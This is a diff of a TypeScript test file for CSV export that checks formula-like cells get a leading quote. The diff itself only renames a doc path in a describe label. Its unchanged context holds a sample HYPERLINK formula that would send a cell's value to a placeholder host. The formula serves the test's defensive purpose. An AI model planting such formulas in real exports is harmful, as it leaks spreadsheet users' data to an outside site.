@@ -12,7 +12,7 @@ import { toCsv } from '../support/generic-history';
 /** A category a spreadsheet would run as a formula (the DTO takes any text of 1-64 characters). */
 const FORMULA = '=HYPERLINK("https://x/?"&B2,"open")';
 
-describe('CSV cells that begin like a formula (http-api.md, Operations)', () => {
+describe('CSV cells that begin like a formula (docs/http-api.md, Operations)', () => {
   it('get a leading quote when they are text, whatever the first character', () => {
     for (const start of ['=', '+', '-', '@', '\t', '\r']) {
       expect(neutralizeFormula(`${start}1`)).toBe(`'${start}1`);
